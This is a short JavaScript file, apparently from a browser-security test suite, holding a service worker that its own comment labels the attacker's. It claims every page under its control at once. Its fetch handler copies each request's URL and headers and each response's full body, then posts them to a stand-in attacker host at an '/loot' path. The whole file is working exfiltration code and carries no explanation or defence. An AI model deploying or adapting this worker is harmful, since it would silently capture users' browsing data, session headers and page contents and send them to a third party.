/* global NAMES */
/** A service worker of the attacker's: it sends him each request and each answer of what it controls. */
self.oninstall = () => self.skipWaiting();
self.onactivate = (event) => event.waitUntil(self.clients.claim());
self.onfetch = (event) => {
  const { url, headers } = event.request;
  if (url.startsWith(NAMES.evil)) return;
  const answer = fetch(event.request);
  const copy = answer.then((response) => response.clone());
  event.respondWith(answer);
  event.waitUntil(
    copy.then(async (response) => {
      const body = `${url} ${JSON.stringify([...headers])} ${await response.text()}`;
      await fetch(`${NAMES.evil}/loot`, { method: "POST", mode: "no-cors", body });
    }),
  );
};
